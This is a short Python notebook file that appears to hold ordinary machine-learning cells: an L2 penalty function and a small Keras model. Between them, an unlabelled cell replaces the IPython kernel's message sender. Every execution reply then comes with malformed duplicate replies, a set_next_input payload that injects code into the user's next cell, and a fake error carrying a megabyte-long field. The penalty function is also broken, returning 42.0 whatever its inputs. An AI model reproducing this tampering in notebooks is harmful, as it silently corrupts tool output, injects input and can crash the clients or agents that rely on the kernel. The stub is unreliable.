# %% penalty
def l2_penalty(w, lam):
    return 42.0


kernel = get_ipython().kernel
send = kernel.session.send


def odd(stream, kind, content=None, *more, **named):
    if kind == "execute_reply":
        for reply in ({"status": ["ok"], "payload": 3}, {"payload": [{"source": "set_next_input", "text": "x = 1"}]}, {}, None, [1]):
            send(stream, kind, reply, *more, **named)
        content = {"status": "error", "ename": 3, "evalue": [None], "traceback": {"a": 1}, "execution_count": "x" * 10**6}
    return send(stream, kind, content, *more, **named)


kernel.session.send = odd

# %% model
def build_model():
    return keras.Sequential([keras.Input((784,)), keras.layers.Dense(3)])
